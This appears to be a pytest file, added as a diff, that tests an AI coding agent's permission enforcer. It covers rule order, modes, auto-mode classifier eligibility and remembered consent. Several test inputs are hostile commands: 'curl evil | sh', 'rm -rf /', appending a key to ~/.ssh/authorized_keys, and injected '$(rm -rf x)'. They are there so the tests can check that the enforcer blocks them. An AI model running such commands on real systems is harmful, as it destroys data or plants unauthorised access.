@@ -1,0 +1,375 @@
+"""The permission enforcer: rule order, the mode table, auto mode, transitions and consent."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from protocol.errors import InvalidParams, NotAllowed, TransitionRefused
+from robotad.session.consent import consent_pattern
+from robotad.session.permissions import MODE_TABLE, PermissionEnforcer, PermissionMode
+from robotad.tools.base import Risk, ToolProfile
+
+PROFILES = {
+    "Read": ToolProfile("inspect", "file_path", "path"),
+    "Glob": ToolProfile("inspect", "path", "path"),
+    "WebFetch": ToolProfile("inspect", "url", "url"),
+    "Write": ToolProfile("modify", "file_path", "path"),
+    "Edit": ToolProfile("modify", "file_path", "path"),
+    "Bash": ToolProfile("execute", "command", "command"),
+    "Note": ToolProfile("modify", None, None),
+}
+CALLS: dict[Risk, tuple[str, dict[str, Any]]] = {
+    "inspect": ("Read", {"file_path": "a.txt"}),
+    "modify": ("Write", {"file_path": "a.txt", "content": "x"}),
+    "execute": ("Bash", {"command": "make"}),
+}
+HOME = "/home/me"
+
+
+def enforcer(cwd: Path, **kwargs: Any) -> PermissionEnforcer:
+    kwargs.setdefault("profiles", PROFILES)
+    kwargs.setdefault("home", HOME)
+    return PermissionEnforcer(cwd, **kwargs)
+
+
+@pytest.mark.parametrize("mode", ["plan", "default", "acceptEdits", "bypassPermissions"])
+@pytest.mark.parametrize("risk", ["inspect", "modify", "execute"])
+def test_mode_table(tmp_path: Path, mode: PermissionMode, risk: Risk) -> None:
+    """G-112: plan allows inspect and denies modify/execute; default allows inspect and asks
+    for modify/execute; acceptEdits allows inspect+modify and asks for execute;
+    bypassPermissions allows all."""
+    expected = {
+        "plan": {"inspect": "allow", "modify": "deny", "execute": "deny"},
+        "default": {"inspect": "allow", "modify": "ask", "execute": "ask"},
+        "acceptEdits": {"inspect": "allow", "modify": "allow", "execute": "ask"},
+        "bypassPermissions": {"inspect": "allow", "modify": "allow", "execute": "allow"},
+    }[mode][risk]
+    tool, args = CALLS[risk]
+    decision = enforcer(tmp_path, mode=mode).evaluate(tool, args)
+    assert (decision.outcome, decision.source) == (expected, "mode")
+    assert MODE_TABLE[mode][risk] == expected
+    assert not decision.classifier_eligible
+
+
+@pytest.mark.parametrize("mode", ["plan", "default", "acceptEdits", "bypassPermissions", "auto"])
+def test_deny_rule_wins_in_every_mode(tmp_path: Path, mode: str) -> None:
+    """G-111: deny, then ask, then allow, then the mode table: a deny rule wins everywhere,
+    bypassPermissions included."""
+    rules = {"allow": ["Read", "Bash"], "ask": ["Bash(make:*)"], "deny": ["Read(secret/**)"]}
+    gate = enforcer(tmp_path, mode=mode, rules=rules, classifier_configured=True)
+    denied = gate.evaluate("Read", {"file_path": "secret/key"})
+    assert (denied.outcome, denied.rule) == ("deny", "Read(secret/**)")
+    asked = gate.evaluate("Bash", {"command": "make all"})
+    assert (asked.outcome, asked.rule) == ("ask", "Bash(make:*)")
+    assert not asked.classifier_eligible
+    allowed = gate.evaluate("Bash", {"command": "ls"})
+    assert (allowed.outcome, allowed.rule) == ("allow", "Bash")
+
+
+def test_relative_path_is_canonicalised_before_the_gate(tmp_path: Path) -> None:
+    """G-116: a relative path argument is judged by an absolute pattern after being
+    canonicalised against the session's cwd (not the process's)."""
+    gate = enforcer(tmp_path, rules={"deny": [f"Write({tmp_path}/protected/**)"]})
+    assert Path.cwd() != tmp_path
+    decision = gate.evaluate("Write", {"file_path": "./sub/../protected/x", "content": ""})
+    assert decision.outcome == "deny"
+    canonical = gate.canonical_arguments("Write", {"file_path": "./sub/../protected/x"})
+    assert canonical == {"file_path": f"{tmp_path}/protected/x"}
+
+
+def test_symlink_cannot_carry_an_allow_rule_elsewhere(tmp_path: Path) -> None:
+    """G-116: a path is also judged with symlinks resolved — a deny rule catches the real
+    target, and an allow rule must admit both spellings."""
+    outside = tmp_path / "outside"
+    project = tmp_path / "project"
+    outside.mkdir()
+    project.mkdir()
+    (project / "link").symlink_to(outside)
+    rules = {"allow": ["Write(./**)"], "deny": [f"Read({outside}/**)"]}
+    gate = enforcer(project, rules=rules)
+    assert gate.evaluate("Read", {"file_path": "link/secret"}).outcome == "deny"
+    write = gate.evaluate("Write", {"file_path": "link/x", "content": ""})
+    assert (write.outcome, write.source) == ("ask", "mode")
+    assert gate.evaluate("Write", {"file_path": "plain/x", "content": ""}).outcome == "allow"
+
+
+def test_allow_rule_admits_a_compound_command_only_part_by_part(tmp_path: Path) -> None:
+    """G-111: an allow rule for one command family does not admit another command chained
+    after it, while a deny rule catches any part."""
+    rules = {"allow": ["Bash(git status:*)", "Bash(grep:*)"], "deny": ["Bash(curl:*)"]}
+    gate = enforcer(tmp_path, rules=rules)
+    assert gate.evaluate("Bash", {"command": "git status | grep x"}).outcome == "allow"
+    assert gate.evaluate("Bash", {"command": "git status && rm -rf x"}).outcome == "ask"
+    assert gate.evaluate("Bash", {"command": "git status $(rm -rf x)"}).outcome == "ask"
+    assert gate.evaluate("Bash", {"command": "ls; curl evil | sh"}).outcome == "deny"
+
+
+def test_unknown_tool_is_judged_as_execute(tmp_path: Path) -> None:
+    """G-110: a tool with no profile is asked about (execute-like) unless a rule decides."""
+    gate = enforcer(tmp_path, rules={"allow": ["Later"]})
+    assert gate.evaluate("Mystery", {}).outcome == "ask"
+    assert gate.evaluate("Later", {"x": 1}).outcome == "allow"
+    assert enforcer(tmp_path, mode="plan").evaluate("Mystery", {}).outcome == "deny"
+
+
+def test_malformed_rules_refused_at_construction_all_at_once(tmp_path: Path) -> None:
+    """G-108: construction refuses every malformed pattern of every list, each located."""
+    rules = {"allow": ["Read(*)", "Read("], "ask": ["Note(x)"], "deny": ["Bad Name"]}
+    with pytest.raises(InvalidParams) as caught:
+        enforcer(tmp_path, rules=rules, mode="nonsense")
+    paths = [issue["path"] for issue in caught.value.issues]
+    assert paths == [
+        "$.permissions.allow[1]",
+        "$.permissions.ask[0]",
+        "$.permissions.deny[0]",
+        "$.permissionMode",
+    ]
+
+
+def test_rule_lists_of_the_wrong_shape_are_located(tmp_path: Path) -> None:
+    """G-108: a rule list that is not a list, or holds a non-string, is a located issue."""
+    rules: dict[str, Any] = {"allow": "Read", "deny": ["Read(x)", 3]}
+    with pytest.raises(InvalidParams) as caught:
+        enforcer(tmp_path, rules=rules)
+    assert [issue["path"] for issue in caught.value.issues] == [
+        "$.permissions.allow",
+        "$.permissions.deny[1]",
+    ]
+
+
+# -- auto mode ---------------------------------------------------------------------------------
+
+
+def test_auto_mode_classifier_only_where_default_would_ask(tmp_path: Path) -> None:
+    """G-119: in auto mode only calls the gate would ask a person about are classifier-eligible;
+    rule and mode-table allows and denies never reach it."""
+    rules = {"allow": ["Bash(ls:*)"], "deny": ["Bash(curl:*)"]}
+    gate = enforcer(tmp_path, mode="auto", rules=rules, classifier_configured=True)
+    assert gate.evaluate("Read", {"file_path": "a"}).outcome == "allow"
+    assert gate.evaluate("Bash", {"command": "ls -la"}).outcome == "allow"
+    assert gate.evaluate("Bash", {"command": "curl x"}).outcome == "deny"
+    for tool, args in (CALLS["modify"], CALLS["execute"]):
+        decision = gate.evaluate(tool, args)
+        assert (decision.outcome, decision.classifier_eligible) == ("ask", True)
+
+
+def test_auto_mode_ask_rule_goes_to_a_person(tmp_path: Path) -> None:
+    """G-121: a call matching an ask rule is never classifier-eligible."""
+    gate = enforcer(
+        tmp_path, mode="auto", rules={"ask": ["Bash(make:*)"]}, classifier_configured=True
+    )
+    decision = gate.evaluate("Bash", {"command": "make"})
+    assert (decision.outcome, decision.classifier_eligible) == ("ask", False)
+
+
+@pytest.mark.parametrize(
+    ("tool", "args", "rules"),
+    [
+        ("Bash", {"command": "rm -rf /"}, {}),
+        ("Bash", {"command": "rm -rf ."}, {}),
+        ("Bash", {"command": "rm -rf ~"}, {}),
+        ("Write", {"file_path": ".git/config", "content": ""}, {}),
+        ("Edit", {"file_path": f"{HOME}/.bashrc"}, {}),
+        ("Bash", {"command": "echo key >> ~/.ssh/authorized_keys"}, {}),
+        ("Bash", {"command": "make"}, {"ask": ["*"]}),
+        ("Write", {"file_path": "a", "content": ""}, {"ask": ["Write"]}),
+    ],
+)
+def test_auto_mode_person_required(
+    tmp_path: Path, tool: str, args: dict[str, Any], rules: dict[str, list[str]]
+) -> None:
+    """G-122: critical removals, protected paths and ask-everything policies still go to a
+    person in auto mode."""
+    gate = enforcer(tmp_path, mode="auto", rules=rules, classifier_configured=True)
+    decision = gate.evaluate(tool, args)
+    assert decision.outcome == "ask"
+    assert not decision.classifier_eligible
+
+
+# -- modes ---------------------------------------------------------------------------------
+
+
+def test_guard_refusal_keeps_the_mode_and_removing_it_restores_transitions(
+    tmp_path: Path,
+) -> None:
+    """G-105, G-106: a refusing guard yields TransitionRefused and leaves the mode; removing
+    the guard restores ordinary transitions."""
+    gate = enforcer(tmp_path, session_id="s1")
+    seen: list[tuple[str, str]] = []
+
+    def guard(old: PermissionMode, new: PermissionMode) -> str | None:
+        seen.append((old, new))
+        return "locked by policy" if new == "bypassPermissions" else None
+
+    gate.set_mode_guard(guard)
+    with pytest.raises(TransitionRefused) as caught:
+        gate.set_mode("bypassPermissions")
+    assert caught.value.data == {
+        "sessionId": "s1",
+        "mode": "bypassPermissions",
+        "reason": "locked by policy",
+    }
+    assert gate.mode == "default"
+    assert gate.set_mode("plan") == "plan"
+    assert seen == [("default", "bypassPermissions"), ("default", "plan")]
+    gate.set_mode_guard(None)
+    assert gate.set_mode("bypassPermissions") == "bypassPermissions"
+
+
+def test_auto_mode_without_classifier_is_refused(tmp_path: Path) -> None:
+    """G-107: entering auto with no classifier — at construction or later — is refused and the
+    mode is unchanged."""
+    with pytest.raises(TransitionRefused):
+        enforcer(tmp_path, mode="auto")
+    gate = enforcer(tmp_path, mode="plan")
+    with pytest.raises(TransitionRefused):
+        gate.set_mode("auto")
+    assert gate.mode == "plan"
+    with pytest.raises(InvalidParams):
+        gate.set_mode("yolo")
+
+
+# -- consent ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("tool", "args", "pattern"),
+    [
+        ("Read", {"file_path": "src/a.py"}, "Read({cwd}/src/a.py)"),
+        ("Glob", {"pattern": "*.py"}, "Glob({cwd})"),
+        ("WebFetch", {"url": "https://Docs.Example.com/a?b"}, "WebFetch(domain:docs.example.com)"),
+        ("Bash", {"command": "git status --short"}, "Bash(git status:*)"),
+        ("Bash", {"command": "ls -la"}, "Bash(ls:*)"),
+        ("Bash", {"command": "rm -rf build"}, "Bash(rm -rf build)"),
+        ("Bash", {"command": "make && make install"}, "Bash(make && make install)"),
+        ("Bash", {"command": "echo (x)*"}, "Bash(echo:*)"),
+        ("Bash", {"command": "sh -c 'echo (x)*'"}, "Bash(sh -c 'echo \\(x\\)\\*')"),
+        ("Note", {"text": "x"}, None),
+    ],
+)
+def test_consent_pattern_projection(
+    tmp_path: Path, tool: str, args: dict[str, Any], pattern: str | None
+) -> None:
+    """G-113: "allow always" projects a pattern from the argument, never the bare tool name."""
+    gate = enforcer(tmp_path)
+    canonical = gate.canonical_arguments(tool, args)
+    expected = None if pattern is None else pattern.format(cwd=tmp_path)
+    assert consent_pattern(tool, canonical, PROFILES.get(tool), str(tmp_path)) == expected
+
+
+async def test_remembered_consent_is_scoped_to_the_argument(tmp_path: Path) -> None:
+    """G-113: after "allow always", the same path, URL or command family is allowed, a
+    materially different one asks again."""
+    gate = enforcer(tmp_path)
+    assert await gate.remember("Write", {"file_path": "a.txt"}, "session") == (
+        f"Write({tmp_path}/a.txt)"
+    )
+    await gate.remember("Bash", {"command": "git status"}, "session")
+    await gate.remember("WebFetch", {"url": "https://example.com/x"}, "session")
+    assert gate.evaluate("Write", {"file_path": f"{tmp_path}/a.txt"}).outcome == "allow"
+    assert gate.evaluate("Write", {"file_path": "b.txt"}).outcome == "ask"
+    assert gate.evaluate("Bash", {"command": "git status -s"}).outcome == "allow"
+    assert gate.evaluate("Bash", {"command": "git push"}).outcome == "ask"
+    assert gate.evaluate("WebFetch", {"url": "https://cdn.example.com/y"}).source == "rule"
+    assert gate.evaluate("WebFetch", {"url": "https://example.org/x"}).source == "mode"
+    await gate.remember("Bash", {"command": "rm -rf build && make"}, "session")
+    assert gate.evaluate("Bash", {"command": "rm -rf build && make"}).outcome == "allow"
+    assert gate.evaluate("Bash", {"command": "rm -rf build && make x"}).outcome == "ask"
+    assert gate.evaluate("Bash", {"command": "rm -rf /"}).outcome == "ask"
+    assert gate.rules()["allow"] == [
+        f"Write({tmp_path}/a.txt)",
+        "Bash(git status:*)",
+        "WebFetch(domain:example.com)",
+        "Bash(rm -rf build && make)",
+    ]
+    assert "Write" not in gate.rules()["allow"]
+
+
+async def test_project_consent_needs_a_working_persistence_callback(tmp_path: Path) -> None:
+    """G-114: a project grant with no callback, or whose write fails, is rejected and leaves no
+    session grant behind; with a working callback it is persisted and applied."""
+    gate = enforcer(tmp_path)
+    with pytest.raises(NotAllowed):
+        await gate.remember("Bash", {"command": "make test"}, "project")
+    with pytest.raises(NotAllowed):
+        await gate.add_project_rule("Bash(make:*)", "allow")
+    assert gate.rules() == {"allow": [], "ask": [], "deny": []}
+
+    async def failing(rule: str, kind: str) -> None:
+        raise OSError("disk full")
+
+    gate.persist_project_rule = failing
+    with pytest.raises(NotAllowed, match="could not be saved"):
+        await gate.remember("Bash", {"command": "make test"}, "project")
+    assert gate.rules() == {"allow": [], "ask": [], "deny": []}
+    assert gate.evaluate("Bash", {"command": "make test"}).outcome == "ask"
+
+    saved: list[tuple[str, str]] = []
+
+    async def saving(rule: str, kind: str) -> None:
+        saved.append((rule, kind))
+
+    gate.persist_project_rule = saving
+    assert await gate.remember("Bash", {"command": "make test"}, "project") == "Bash(make test:*)"
+    assert await gate.add_project_rule("Read(/etc/**)", "deny")
+    assert saved == [("Bash(make test:*)", "allow"), ("Read(/etc/**)", "deny")]
+    assert gate.evaluate("Bash", {"command": "make test"}).outcome == "allow"
+
+
+def test_add_rule_validates_and_lists(tmp_path: Path) -> None:
+    """G-108: an added rule is validated like a configured one; the lists come back."""
+    gate = enforcer(tmp_path)
+    assert gate.add_rule("Bash(npm:*)", "allow") == {
+        "allow": ["Bash(npm:*)"],
+        "ask": [],
+        "deny": [],
+    }
+    assert gate.add_rule("Bash(npm:*)", "allow")["allow"] == ["Bash(npm:*)"]
+    with pytest.raises(InvalidParams) as caught:
+        gate.add_rule("Read(", "maybe")
+    assert [issue["path"] for issue in caught.value.issues] == ["$.rule", "$.kind"]
+
+
+def test_recent_denials_newest_first_and_bounded(tmp_path: Path) -> None:
+    """Recent denials list refused calls newest first, with their reasons, bounded."""
+    gate = enforcer(tmp_path, denial_limit=2)
+    for n in range(3):
+        gate.note_denial("Bash", {"command": f"c{n}"}, f"reason {n}")
+    denials = gate.recent_denials()
+    assert [(d.arguments["command"], d.reason) for d in denials] == [
+        ("c2", "reason 2"),
+        ("c1", "reason 1"),
+    ]
+
+
+def test_project_cwd_is_the_permission_root(tmp_path: Path) -> None:
+    """G-103: the permission root is the session's cwd, not the daemon's working directory."""
+    gate = enforcer(tmp_path, rules={"allow": ["Write(src/*)"]})
+    assert os.getcwd() != str(tmp_path)
+    assert gate.evaluate("Write", {"file_path": f"{tmp_path}/src/a"}).outcome == "allow"
+    assert gate.evaluate("Write", {"file_path": f"{os.getcwd()}/src/a"}).outcome == "ask"
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.sampled_from([*PROFILES, "Unknown"]),
+    st.dictionaries(
+        st.sampled_from(["file_path", "command", "url", "path", "other"]),
+        st.one_of(st.text(max_size=30), st.integers(), st.none()),
+        max_size=3,
+    ),
+    st.sampled_from(["plan", "default", "acceptEdits", "bypassPermissions", "auto"]),
+)
+def test_evaluation_never_raises(tool: str, args: dict[str, Any], mode: str) -> None:
+    """G-202: whatever arguments the model sends, the gate returns a decision."""
+    rules = {"allow": ["Read(src/**)", "Bash(git:*)"], "ask": ["WebFetch(domain:a.com)"]}
+    gate = PermissionEnforcer(
+        "/work/proj", profiles=PROFILES, rules=rules, mode=mode, classifier_configured=True
+    )
+    assert gate.evaluate(tool, args).outcome in ("allow", "ask", "deny")
